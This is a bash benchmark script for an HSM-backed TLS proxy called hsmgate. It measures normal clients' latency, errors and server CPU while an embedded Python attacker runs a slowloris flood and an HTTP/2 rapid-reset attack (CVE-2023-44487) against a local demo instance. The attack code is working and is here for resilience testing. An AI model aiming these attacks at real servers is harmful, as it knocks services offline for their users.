#!/usr/bin/env bash
# hostile.sh: normal clients beside hostile ones (issue 10). hsmgate (`hsmgate demo`: a
# fresh SoftHSM token, ECDSA P-256, the built-in upstream) serves an open loop of normal
# clients (hsmgate-load, new TLS connection and one GET each, RATE/s, DURATION) in three
# phases, and the script prints the normal clients' p50/p99, their errors, and hsmgate's
# CPU during each:
#   baseline      nobody else
#   slowloris     SLOW connections (TLS done) each sending a header byte every INTERVAL s,
#                 re-opened as hsmgate closes them (client_header_timeout)
#   rapid-reset   one client opening HTTP/2 streams and resetting them at once
#                 (CVE-2023-44487), 100 per write, reconnecting whenever hsmgate closes
# The attackers are Python (standard library only). Output: a Markdown table on stdout and
# in benches/results/hostile-DATE.md.
# Knobs: PORT (27443), RATE (20), DURATION (20s), SLOW (1000), INTERVAL (10), BIN_DIR (the
# release binaries; built when missing), PHASES ("baseline slowloris rapid-reset"), KEEP=1.
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
PORT=${PORT:-27443} RATE=${RATE:-20} DURATION=${DURATION:-20s} SLOW=${SLOW:-1000} INTERVAL=${INTERVAL:-10}
RESULTS=${RESULTS:-$ROOT/benches/results}
PHASES=(${PHASES:-baseline slowloris rapid-reset})
BIN_DIR=${BIN_DIR:-${CARGO_TARGET_DIR:-$ROOT/target}/release}
SCRIPT=hostile
# shellcheck source=lib.sh
. "$HERE/lib.sh"

command -v python3 >/dev/null || die "needs python3"
HSMGATE="$BIN_DIR/hsmgate" LOAD="$BIN_DIR/hsmgate-load"
if [[ ! -x $HSMGATE || ! -x $LOAD ]]; then
  say "building hsmgate and hsmgate-load (release)"
  (cd "$ROOT" && cargo build --release -q -p hsmgate-proxy --bin hsmgate \
    && cargo build --release -q -p hsmgate-benches --bin hsmgate-load)
  HSMGATE="${CARGO_TARGET_DIR:-$ROOT/target}/release/hsmgate" LOAD="${CARGO_TARGET_DIR:-$ROOT/target}/release/hsmgate-load"
fi
ports_free "$PORT"
make_work hostile
mkdir -p "$RESULTS"
OUT="$RESULTS/hostile-$(date -u +%Y%m%d-%H%M%S).md"
ulimit -n 65536 2>/dev/null || ulimit -n 4096 2>/dev/null || true

cat >"$WORK/attack.py" <<'EOF'
import socket, ssl, struct, sys, time

mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE

def connect(alpn=None):
    if alpn:
        ctx.set_alpn_protocols(alpn)
    raw = socket.create_connection((host, port), timeout=10)
    return ctx.wrap_socket(raw, server_hostname="localhost")

if mode == "slowloris":
    n, interval = int(sys.argv[4]), float(sys.argv[5])
    socks, reopened = [], 0
    def top_up():
        global reopened
        while len(socks) < n:
            try:
                s = connect()
                s.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                socks.append(s)
                reopened += 1
            except Exception:
                time.sleep(0.1)
    top_up()
    print(f"ready {len(socks)}", flush=True)
    while True:
        time.sleep(interval)
        alive = []
        for s in socks:
            try:
                s.sendall(b"X")
                alive.append(s)
            except Exception:
                s.close()
        socks[:] = alive
        top_up()
        print(f"open {len(socks)} connections made {reopened}", flush=True)

elif mode == "rapid-reset":
    def frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    # :method GET, :scheme https, :path /, :authority localhost (literal, not indexed)
    block = b"\x82\x87\x84\x01\x09localhost"
    conns = streams = 0
    print("ready", flush=True)
    while True:
        try:
            s = connect(["h2"])
            conns += 1
            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            sid = 1
            while True:
                batch = b"".join(
                    frame(1, 0x5, sid + 2 * i, block) + frame(3, 0, sid + 2 * i, struct.pack(">I", 8))
                    for i in range(100))
                s.sendall(batch)
                sid += 200
                streams += 100
        except Exception:
            if conns % 50 == 1:
                print(f"connections {conns} streams {streams}", flush=True)
EOF

say "starting hsmgate demo on 127.0.0.1:$PORT"
"$HSMGATE" demo --listen "127.0.0.1:$PORT" --key p256 >"$WORK/hsmgate.log" 2>&1 &
GATE=$!
PIDS+=("$GATE")
wait_port "$PORT" "$WORK"
sleep 1
all_alive "hsmgate exited at start; log in $WORK (KEEP=1 keeps it)"
URL="https://127.0.0.1:$PORT/"
HZ=$(getconf CLK_TCK)
SECS=${DURATION%s}

rows=()
for phase in "${PHASES[@]}"; do
  attacker=""
  case $phase in
    baseline) ;;
    slowloris)
      python3 "$WORK/attack.py" slowloris 127.0.0.1 "$PORT" "$SLOW" "$INTERVAL" >"$WORK/slowloris.log" 2>&1 &
      attacker=$!
      for _ in $(seq 1 600); do grep -q '^ready' "$WORK/slowloris.log" && break; sleep 0.1; done ;;
    rapid-reset)
      python3 "$WORK/attack.py" rapid-reset 127.0.0.1 "$PORT" >"$WORK/rapid-reset.log" 2>&1 &
      attacker=$!
      sleep 2 ;;
    *) die "unknown phase $phase" ;;
  esac
  [[ -n $attacker ]] && PIDS+=("$attacker")
  say "$phase: measuring $DURATION at $RATE new connections/s"
  t0=$(cpu_ticks "$GATE")
  out=$("$LOAD" -k --json --mode handshake --tls 1.3 -r "$RATE" -d "$DURATION" --warmup 1s "$URL" || true)
  t1=$(cpu_ticks "$GATE")
  if [[ -n $attacker ]]; then
    kill "$attacker" 2>/dev/null || true
    wait "$attacker" 2>/dev/null || true
    PIDS=("$GATE")
  fi
  cpu=$(awk -v t="$((t1 - t0))" -v hz="$HZ" -v s="$SECS" 'BEGIN { printf "%.0f", 100 * t / hz / (s + 1) }')
  note=""
  [[ $phase == slowloris ]] && note=$(tail -n 1 "$WORK/slowloris.log")
  [[ $phase == rapid-reset ]] && note=$(tail -n 1 "$WORK/rapid-reset.log")
  rows+=("| $phase | $(jnum ok "$out") | $(jnum error_total "$out") $(jerrors "$out") | $(jnum p50_ms "$out") | $(jnum p99_ms "$out") | $cpu % | $note |")
  sleep 2
done

{
  echo "hostile.sh, $(date -u +%FT%TZ), $(nproc) cores, load $(cut -d' ' -f1-3 /proc/loadavg), commit $(git -C "$ROOT" rev-parse --short HEAD)"
  echo "normal clients: $RATE new TLS 1.3 connections/s, one GET each, $DURATION; slowloris: $SLOW connections, a byte every $INTERVAL s"
  echo
  echo "| phase | normal ok | normal errors | p50 ms | p99 ms | hsmgate CPU | attacker |"
  echo "|---|---|---|---|---|---|---|"
  printf '%s\n' "${rows[@]}"
} | tee "$OUT"
